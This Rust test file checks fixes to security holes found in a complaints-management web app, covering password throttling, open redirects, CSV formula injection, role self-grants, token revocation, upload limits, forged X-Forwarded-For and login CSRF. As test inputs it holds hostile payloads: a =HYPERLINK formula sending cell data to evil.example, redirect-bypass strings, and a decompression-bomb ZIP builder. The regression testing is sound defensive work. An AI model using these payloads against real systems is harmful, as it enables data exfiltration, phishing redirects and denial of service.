//! The holes an attacker found in the running demo, each reproduced through the router on both
//! backends and shown closed: parallel password guessing, password guessing through a token,
//! an open redirect after sign-in, spreadsheet formulas in exports, self-granted access, a
//! viewer token revoking its owner's other tokens, and oversized input.

mod common;

use axum::body::Body;
use axum::http::{header, Request};
use common::{App, Credentials, PASSWORD};
use redress_accounts::AuditFilter;
use redress_store::{Access, Role};
use redress_testkit::{on_both_backends, TestDatabase};
use serde_json::json;

on_both_backends!(
    parallel_wrong_passwords_are_throttled,
    a_token_cannot_guess_the_password,
    sign_in_goes_only_to_paths_on_this_site,
    exported_cells_cannot_run_as_formulas,
    no_one_grants_themselves_a_role,
    a_viewer_token_cannot_revoke_an_officer_token,
    uploads_up_to_ten_megabytes,
    field_limits_hold_on_the_api_and_the_public_form,
    smaller_things,
);

fn sign_in_request(email: &str, password: &str) -> Request<Body> {
    Request::post("/api/v1/session")
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(
            json!({"email": email, "password": password}).to_string(),
        ))
        .unwrap()
}

/// 15 wrong passwords sent at once, and the right one: the attempts are counted before any
/// password is compared, so no more than the free five are checked at all.
async fn parallel_wrong_passwords_are_throttled(db: &TestDatabase) {
    let app = App::start(db).await;
    app.seed().await;
    let mut attempts = Vec::new();
    for i in 0..16 {
        let router = app.router.clone();
        let password = if i == 15 {
            PASSWORD.to_string()
        } else {
            format!("wrong guess {i}")
        };
        attempts.push(tokio::spawn(async move {
            let request = sign_in_request("officer@testshire.test", &password);
            tower::ServiceExt::oneshot(router, request)
                .await
                .unwrap()
                .status()
                .as_u16()
        }));
    }
    let mut statuses = Vec::new();
    for attempt in attempts {
        statuses.push(attempt.await.unwrap());
    }
    let throttled = statuses.iter().filter(|s| **s == 429).count();
    assert!(throttled >= 10, "at least 10 of 16 throttled: {statuses:?}");
    assert!(
        statuses.iter().all(|s| [200, 401, 429].contains(s)),
        "{statuses:?}"
    );
    // Every failed check is in the audit log.
    let failed = app
        .accounts
        .audit(&Access::System, "testshire", &AuditFilter::default(), 500)
        .await;
    // Sign-in events of a member appear in the organisation's log.
    let failed = failed.unwrap().0;
    let refused = statuses.iter().filter(|s| **s == 401).count();
    assert_eq!(
        failed.iter().filter(|e| e.kind == "sign_in_failed").count(),
        refused,
        "each refused password is audited"
    );
    assert_eq!(
        failed
            .iter()
            .filter(|e| e.kind == "sign_in_throttled")
            .count(),
        throttled
    );
}

/// A viewer token cannot change the password, so it cannot test guesses at it; and a session
/// guessing is throttled and audited like a sign-in.
async fn a_token_cannot_guess_the_password(db: &TestDatabase) {
    let app = App::start(db).await;
    app.seed().await;
    let made = app
        .post(
            "/api/v1/tokens",
            json!({"organisation": "testshire", "role": "viewer", "name": "dashboard"}),
        )
        .await
        .expect(201);
    let token = Credentials::Token(made.body["token"].as_str().unwrap().to_string());
    for i in 0..30 {
        let guess = if i == 29 {
            PASSWORD.to_string()
        } else {
            format!("guess number {i}")
        };
        let reply = app
            .call_as(
                &token,
                "PUT",
                "/api/v1/session/password",
                Some(json!({"current_password": guess, "new_password": "a brand new passphrase"})),
                None,
            )
            .await;
        assert!(
            [401, 403].contains(&reply.status.as_u16()),
            "guess {i} refused: {}",
            reply.body
        );
    }
    // With a session: the right and a wrong password answer the same way until one is checked,
    // and wrong ones slow down.
    let same = app
        .put(
            "/api/v1/session/password",
            json!({"current_password": "a wrong one here", "new_password": "a wrong one here"}),
        )
        .await;
    let same_right = app
        .put(
            "/api/v1/session/password",
            json!({"current_password": PASSWORD, "new_password": PASSWORD}),
        )
        .await;
    assert_eq!(same.status, same_right.status);
    assert_eq!(
        same.body, same_right.body,
        "no oracle in the new-password rules"
    );
    let mut statuses = Vec::new();
    for i in 0..8 {
        let reply = app
            .put(
                "/api/v1/session/password",
                json!({"current_password": format!("wrong guess {i}"), "new_password": "a brand new passphrase"}),
            )
            .await;
        statuses.push(reply.status.as_u16());
    }
    assert_eq!(&statuses[..5], &[422; 5], "{statuses:?}");
    assert!(
        statuses[5..].iter().all(|s| *s == 429),
        "then throttled: {statuses:?}"
    );
    let audit = app
        .accounts
        .audit(&Access::System, "testshire", &AuditFilter::default(), 500)
        .await
        .unwrap()
        .0;
    assert_eq!(
        audit
            .iter()
            .filter(|e| e.kind == "password_change_failed")
            .count(),
        5
    );
}

async fn sign_in_goes_only_to_paths_on_this_site(db: &TestDatabase) {
    let app = App::start(db).await;
    app.seed().await;
    for (next, expected) in [
        ("/\t/evil.example", "/"),
        ("/\n/evil.example", "/"),
        ("/\nfoo", "/"),
        ("//evil.example", "/"),
        ("/\\evil.example", "/"),
        ("https://evil.example", "/"),
        ("/cases?status=open", "/cases?status=open"),
    ] {
        let body = serde_urlencoded::to_string([
            ("email", "officer@testshire.test"),
            ("password", PASSWORD),
            ("next", next),
        ])
        .unwrap();
        let reply = app
            .send(
                Request::post("/sign-in")
                    .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                    .body(Body::from(body))
                    .unwrap(),
            )
            .await
            .expect(303);
        assert_eq!(reply.headers[header::LOCATION], expected, "next={next:?}");
        // The form itself carries only a safe value.
        let query = serde_urlencoded::to_string([("next", next)]).unwrap();
        let form = app.get(&format!("/sign-in?{query}")).await.expect(200);
        let page = form.body.as_str().unwrap();
        if expected == "/" {
            assert!(!page.contains("evil.example"), "{next:?}");
        }
    }
}

async fn exported_cells_cannot_run_as_formulas(db: &TestDatabase) {
    let app = App::start(db).await;
    app.seed().await;
    let hostile = r#"=HYPERLINK("http://evil.example/?d="&A1,"Thanks!")"#;
    // A compliment from the public, with no sign-in.
    let body =
        serde_urlencoded::to_string([("summary", hostile), ("team", "Access & Assessment Team")])
            .unwrap();
    app.send(
        Request::post("/compliment/testshire")
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(Body::from(body))
            .unwrap(),
    )
    .await
    .expect(200);
    let compliments = app.store.compliments("testshire").await.unwrap();
    let mut csv = Vec::new();
    redress_interchange::write_compliments(
        &mut csv,
        compliments.iter().map(|c| {
            (
                c.received_on,
                c.team.as_deref().unwrap_or(""),
                c.summary.as_str(),
                c.consent_to_publish,
            )
        }),
    )
    .unwrap();
    let text = String::from_utf8(csv.clone()).unwrap();
    assert!(text.contains(r#""'=HYPERLINK("#), "{text}");
    let back = redress_interchange::parse_compliments(&csv[..]).unwrap();
    assert_eq!(
        back[0].summary, hostile,
        "the import takes the quote off again"
    );

    // A case whose reference and team are formulas, in the case export and the audit CSV.
    app.post(
        "/api/v1/organisations/testshire/teams",
        json!({"name": "@SUM(1+1)"}),
    )
    .await;
    app.post(
        "/api/v1/cases",
        json!({"organisation": "testshire", "reference": "=1+1", "procedure": "statutory",
               "received_on": "2024-05-01", "channel": "web", "complainant_role": "parent",
               "team": "Access & Assessment Team", "reason": "Communication"}),
    )
    .await
    .expect(201);
    let cases = app.store.export_cases("testshire").await.unwrap();
    let organisation = app.store.organisation("testshire").await.unwrap();
    let mut csv = Vec::new();
    redress_interchange::write_cases(&mut csv, &cases, &organisation.procedures).unwrap();
    let text = String::from_utf8(csv.clone()).unwrap();
    assert!(text.contains("'=1+1,"), "{text}");
    let rows =
        redress_interchange::parse_cases(&csv[..], &organisation.procedures, |_| {}).unwrap();
    assert!(
        rows.iter().any(|r| r.case.reference() == "=1+1"),
        "round trip"
    );

    app.add_user(
        "admin@testshire.test",
        Some("testshire"),
        Some(Role::Admin),
        &[],
        false,
    )
    .await;
    app.sign_in_as("admin@testshire.test").await;
    let audit = app
        .get("/api/v1/audit?organisation=testshire&format=csv")
        .await
        .expect(200);
    let text = audit.body.as_str().unwrap();
    assert!(text.contains("'=1+1"), "{text}");
    assert!(!text.contains(",=1+1"), "{text}");

    // The report's tables.
    app.sign_in_as("officer@testshire.test").await;
    let report = app
        .get("/api/v1/organisations/testshire/reports/2024?format=csv")
        .await
        .expect(200);
    let text = report.body.as_str().unwrap();
    for line in text.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@']) || cell.parse::<f64>().is_ok(),
                "a formula cell in the report CSV: {cell}"
            );
        }
    }
}

async fn no_one_grants_themselves_a_role(db: &TestDatabase) {
    let app = App::start(db).await;
    app.seed().await;
    app.add_user(
        "admin@testshire.test",
        Some("testshire"),
        Some(Role::Admin),
        &[],
        false,
    )
    .await;
    let case = app
        .new_case("statutory", "2024-05-01")
        .await
        .expect(201)
        .id();
    app.sign_in_as("admin@testshire.test").await;
    app.post(
        "/api/v1/organisations/testshire/users",
        json!({"email": "admin@testshire.test", "role": "complaints_officer"}),
    )
    .await
    .refused(403, None, "themselves");
    // Still an administrator, who sees no case.
    app.get(&format!("/api/v1/cases/{case}")).await.expect(404);
    // A system administrator cannot be given a case role, by anyone.
    app.sign_in_as("operator@redress.test").await;
    app.post(
        "/api/v1/organisations/testshire/users",
        json!({"email": "operator@redress.test", "role": "complaints_officer"}),
    )
    .await
    .refused(403, None, "");
    app.sign_in_as("admin@testshire.test").await;
    app.post(
        "/api/v1/organisations/testshire/users",
        json!({"email": "operator@redress.test", "role": "investigator"}),
    )
    .await
    .refused(403, None, "system administrator never reads cases");
    let refusals = app
        .accounts
        .audit(&Access::System, "testshire", &AuditFilter::default(), 500)
        .await
        .unwrap()
        .0
        .into_iter()
        .filter(|e| e.kind == "role_grant_refused")
        .count();
    assert_eq!(refusals, 3, "each refusal is audited");
}

async fn a_viewer_token_cannot_revoke_an_officer_token(db: &TestDatabase) {
    let app = App::start(db).await;
    app.seed().await;
    let token = |role: &str, name: &str| {
        let body = json!({"organisation": "testshire", "role": role, "name": name});
        let app = &app;
        async move { app.post("/api/v1/tokens", body).await.expect(201).body }
    };
    let officer = token("complaints_officer", "case sync").await;
    let viewer = token("viewer", "wallboard").await;
    let other_viewer = token("viewer", "second wallboard").await;
    let viewer_credentials = Credentials::Token(viewer["token"].as_str().unwrap().into());
    let officer_id = officer["id"].as_i64().unwrap();
    app.call_as(
        &viewer_credentials,
        "DELETE",
        &format!("/api/v1/tokens/{officer_id}"),
        None,
        None,
    )
    .await
    .refused(403, None, "cannot revoke");
    // The officer's token still works.
    let officer_credentials = Credentials::Token(officer["token"].as_str().unwrap().into());
    app.call_as(&officer_credentials, "GET", "/api/v1/cases", None, None)
        .await
        .expect(200);
    // A token of the same role, and itself, it may.
    let other_id = other_viewer["id"].as_i64().unwrap();
    app.call_as(
        &viewer_credentials,
        "DELETE",
        &format!("/api/v1/tokens/{other_id}"),
        None,
        None,
    )
    .await
    .expect(204);
    let own_id = viewer["id"].as_i64().unwrap();
    app.call_as(
        &viewer_credentials,
        "DELETE",
        &format!("/api/v1/tokens/{own_id}"),
        None,
        None,
    )
    .await
    .expect(204);
}

fn multipart_upload(
    path: &str,
    cookie: &str,
    csrf: &str,
    name: &str,
    content: &[u8],
) -> Request<Body> {
    let boundary = "RedressBoundary";
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n{csrf}\r\n\
         --{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\
         Content-Type: application/octet-stream\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(content);
    body.extend(format!("\r\n--{boundary}--\r\n").into_bytes());
    Request::post(path)
        .header(header::COOKIE, cookie)
        .header(
            header::CONTENT_TYPE,
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(Body::from(body))
        .unwrap()
}

async fn uploads_up_to_ten_megabytes(db: &TestDatabase) {
    let app = App::start(db).await;
    app.seed().await;
    let case = app
        .new_case("statutory", "2024-05-01")
        .await
        .expect(201)
        .id();
    let Credentials::Session { cookie, csrf } = app.session_for("officer@testshire.test").await
    else {
        unreachable!()
    };
    let pdf = |megabytes: usize| {
        let mut bytes = b"%PDF-1.4\n".to_vec();
        bytes.resize((megabytes * 1024 * 1024).max(bytes.len()), b' ');
        bytes.extend_from_slice(b"\n%%EOF\n");
        bytes
    };
    let path = format!("/cases/{case}/attachments");
    app.send(multipart_upload(
        &path,
        &cookie,
        &csrf,
        "letter.pdf",
        &pdf(9),
    ))
    .await
    .expect(303);
    let refused = app
        .send(multipart_upload(&path, &cookie, &csrf, "big.pdf", &pdf(11)))
        .await
        .expect(413);
    let page = refused.body.as_str().unwrap();
    assert!(page.contains("10 MB or smaller"), "{page}");
    // A PDF named .html is kept as .pdf.
    app.send(multipart_upload(
        &path,
        &cookie,
        &csrf,
        "page.html",
        &pdf(0),
    ))
    .await
    .expect(303);
    let names: Vec<String> = app
        .store
        .attachments(&Access::System, case)
        .await
        .unwrap()
        .into_iter()
        .map(|a| a.name)
        .collect();
    assert!(names.contains(&"page.pdf".to_string()), "{names:?}");
    // A Word file that declares 200 MB unpacked is refused.
    let bomb = zip_declaring(200 * 1024 * 1024);
    let refused = app
        .send(multipart_upload(&path, &cookie, &csrf, "bomb.docx", &bomb))
        .await;
    assert_eq!(refused.status.as_u16(), 422, "{}", refused.body);
    assert!(
        refused.body.as_str().unwrap().contains("unpack"),
        "{}",
        refused.body
    );
}

/// A minimal Word-looking ZIP (stored, not compressed) whose directory declares `declared`
/// bytes for one part: what a decompression bomb claims.
fn zip_declaring(declared: u32) -> Vec<u8> {
    let entries: [(&str, &[u8]); 2] = [
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
    ];
    let (mut out, mut central) = (Vec::new(), Vec::new());
    for (i, (name, data)) in entries.iter().enumerate() {
        let offset = out.len() as u32;
        let size = if i == 1 { declared } else { data.len() as u32 };
        let crc = crc32(data);
        let header = |signature: u32, central: bool| {
            let mut h = Vec::new();
            h.extend(signature.to_le_bytes());
            if central {
                h.extend(20u16.to_le_bytes());
            }
            h.extend(20u16.to_le_bytes()); // version needed
            h.extend(0u16.to_le_bytes()); // flags
            h.extend(0u16.to_le_bytes()); // stored
            h.extend(0u32.to_le_bytes()); // time and date
            h.extend(crc.to_le_bytes());
            h.extend((data.len() as u32).to_le_bytes());
            h.extend(size.to_le_bytes());
            h.extend((name.len() as u16).to_le_bytes());
            h.extend(0u16.to_le_bytes());
            if central {
                h.extend([0u8; 6]); // comment length, disk, internal attributes
                h.extend(0u32.to_le_bytes()); // external attributes
                h.extend(offset.to_le_bytes());
            }
            h.extend(name.as_bytes());
            h
        };
        out.extend(header(0x04034b50, false));
        out.extend_from_slice(data);
        central.extend(header(0x02014b50, true));
    }
    let start = out.len() as u32;
    out.extend(&central);
    out.extend(0x06054b50u32.to_le_bytes());
    out.extend([0u8; 4]);
    out.extend(2u16.to_le_bytes());
    out.extend(2u16.to_le_bytes());
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(start.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for byte in data {
        crc ^= *byte as u32;
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

async fn field_limits_hold_on_the_api_and_the_public_form(db: &TestDatabase) {
    let app = App::start(db).await;
    app.seed().await;
    let case = |personal: serde_json::Value| {
        json!({"organisation": "testshire", "procedure": "statutory", "received_on": "2024-05-01",
               "channel": "web", "complainant_role": "parent", "personal": personal})
    };
    for (field, value) in [
        ("summary", "s".repeat(20_001)),
        ("outcome_wanted", "o".repeat(20_001)),
        ("complainant_name", "n".repeat(201)),
        ("contact_email", format!("{}@example.org", "e".repeat(250))),
        ("contact_phone", "1".repeat(41)),
    ] {
        app.post("/api/v1/cases", case(json!({ field: value })))
            .await
            .refused(422, Some(field), "characters or fewer");
    }
    app.post(
        "/api/v1/cases",
        case(json!({"summary": "s".repeat(20_000)})),
    )
    .await
    .expect(201);
    // More than a request may carry at all.
    app.post(
        "/api/v1/cases",
        case(json!({"summary": "s".repeat(2_100_000)})),
    )
    .await
    .refused(413, Some("body"), "2 MB");

    for (field, value) in [
        ("outcome_wanted", "o".repeat(1_000_000)),
        ("complainant_name", "n".repeat(200_001)),
        ("summary", "s".repeat(20_001)),
    ] {
        let mut fields = vec![
            ("complainant_role".to_string(), "parent".to_string()),
            (
                "summary".to_string(),
                "About my son's care plan".to_string(),
            ),
        ];
        fields.retain(|(k, _)| k != field);
        fields.push((field.to_string(), value));
        let reply = app
            .send(
                Request::post("/complain/testshire")
                    .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                    .body(Body::from(serde_urlencoded::to_string(&fields).unwrap()))
                    .unwrap(),
            )
            .await;
        let page = reply.body.as_str().unwrap();
        assert!(
            [413, 422].contains(&reply.status.as_u16()),
            "{field}: {}",
            reply.status
        );
        assert!(
            page.contains("characters or fewer") || page.contains("too large"),
            "{field}: {page}"
        );
    }
    let big = "x".repeat(3 * 1024 * 1024);
    let reply = app
        .send(
            Request::post("/complain/testshire")
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::from(format!("summary={big}")))
                .unwrap(),
        )
        .await;
    assert_eq!(reply.status.as_u16(), 413);
    assert!(reply.body.as_str().unwrap().contains("too large"));
}

async fn smaller_things(db: &TestDatabase) {
    let app = App::start(db).await;
    app.seed().await;
    // A sign-in posted from another origin, with no Sec-Fetch-Site, is refused.
    let body =
        serde_urlencoded::to_string([("email", "officer@testshire.test"), ("password", PASSWORD)])
            .unwrap();
    let reply = app
        .send(
            Request::post("/sign-in")
                .header(header::HOST, "redress.example")
                .header(header::ORIGIN, "https://evil.example")
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::from(body.clone()))
                .unwrap(),
        )
        .await;
    assert_eq!(reply.status.as_u16(), 403);
    let reply = app
        .send(
            Request::post("/sign-in")
                .header(header::HOST, "redress.example")
                .header(header::ORIGIN, "https://redress.example")
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::from(body))
                .unwrap(),
        )
        .await;
    assert_eq!(reply.status.as_u16(), 303, "the same origin signs in");

    let Credentials::Session { cookie, .. } = app.session_for("officer@testshire.test").await
    else {
        unreachable!()
    };
    let page = |path: String| {
        Request::get(path)
            .header(header::COOKIE, cookie.as_str())
            .body(Body::empty())
            .unwrap()
    };
    // The banner is chosen from a fixed list.
    let case = app
        .new_case("statutory", "2024-05-01")
        .await
        .expect(201)
        .id();
    let crafted = app
        .send(page(format!(
            "/cases/{case}?done=Your+account+is+locked+call+0900"
        )))
        .await
        .expect(200);
    assert!(!crafted.body.as_str().unwrap().contains("0900"));
    // A page number past the end is bounded.
    let far = app
        .send(page("/cases?page=9223372036854775807".into()))
        .await
        .expect(200);
    assert!(!far.body.as_str().unwrap().contains("Showing cases -"));
}

on_both_backends!(a_forged_forwarded_for_changes_nothing);

/// Issue 23 item 7: behind `--trust-proxy`, rotating the first X-Forwarded-For entry sent the
/// public form past its limit every time (queuing an acknowledgement to any address given) and
/// wrote the forged address into the audit log.
async fn a_forged_forwarded_for_changes_nothing(db: &TestDatabase) {
    let store = redress_store::Store::connect(&db.url).await.unwrap();
    let app = App::start(db).await;
    app.seed().await;
    let router = redress_web::router_with(
        store.clone(),
        redress_web::AuthSettings {
            trusted_proxies: redress_web::auth::TrustedProxies::Hops(1),
            public_submissions_per_hour: 3,
            ..redress_web::AuthSettings::default()
        },
    );
    let complain = |forwarded_for: String, email: String| {
        let router = router.clone();
        async move {
            let body = serde_urlencoded::to_string([
                ("complainant_role", "parent"),
                ("contact_email", email.as_str()),
                ("summary", "Real complaint"),
            ])
            .unwrap();
            let request = Request::post("/complain/testshire")
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .header("x-forwarded-for", forwarded_for)
                .body(Body::from(body))
                .unwrap();
            let response = tower::ServiceExt::oneshot(router, request).await.unwrap();
            response.status().as_u16()
        }
    };
    // One client (the proxy appends 203.0.113.9), a new forged entry and email each time.
    let mut statuses = Vec::new();
    for i in 0..5 {
        let forged = format!("198.51.100.{i}, 203.0.113.9");
        statuses.push(complain(forged, format!("victim{i}@example.org")).await);
    }
    assert_eq!(
        statuses,
        [200, 200, 200, 429, 429],
        "the real address is limited"
    );
    // Many clients, one email address: the acknowledgements to it are limited too.
    let mut statuses = Vec::new();
    for i in 0..5 {
        let client = format!("192.0.2.{i}");
        statuses.push(complain(client, "target@example.org".into()).await);
    }
    assert_eq!(
        statuses,
        [200, 200, 200, 429, 429],
        "the email address is limited"
    );

    // The audit log holds the addresses the proxy saw, never the forged ones.
    let addresses = db
        .texts_directly("SELECT DISTINCT address FROM events WHERE address IS NOT NULL")
        .await
        .unwrap();
    assert!(
        addresses.contains(&"203.0.113.9".to_string()),
        "{addresses:?}"
    );
    assert!(
        !addresses.iter().any(|a| a.starts_with("198.51.100.")),
        "{addresses:?}"
    );
    store.close().await;
}

on_both_backends!(origin_null_signs_in_only_when_the_browser_says_same_origin);

/// Issue 23: `Origin: null` (sent by a sandboxed frame on any site) with no Sec-Fetch-Site
/// passed the sign-in check: login CSRF on browsers without Fetch Metadata.
async fn origin_null_signs_in_only_when_the_browser_says_same_origin(db: &TestDatabase) {
    let app = App::start(db).await;
    app.seed().await;
    let body =
        serde_urlencoded::to_string([("email", "officer@testshire.test"), ("password", PASSWORD)])
            .unwrap();
    for (fetch_site, expected) in [
        (None, 403),
        (Some("cross-site"), 403),
        (Some("same-site"), 403),
        (Some("same-origin"), 303),
    ] {
        let mut request = Request::post("/sign-in")
            .header(header::HOST, "redress.example")
            .header(header::ORIGIN, "null")
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
        if let Some(site) = fetch_site {
            request = request.header("sec-fetch-site", site);
        }
        let reply = app
            .send(request.body(Body::from(body.clone())).unwrap())
            .await;
        assert_eq!(
            reply.status.as_u16(),
            expected,
            "Sec-Fetch-Site {fetch_site:?}"
        );
    }
}
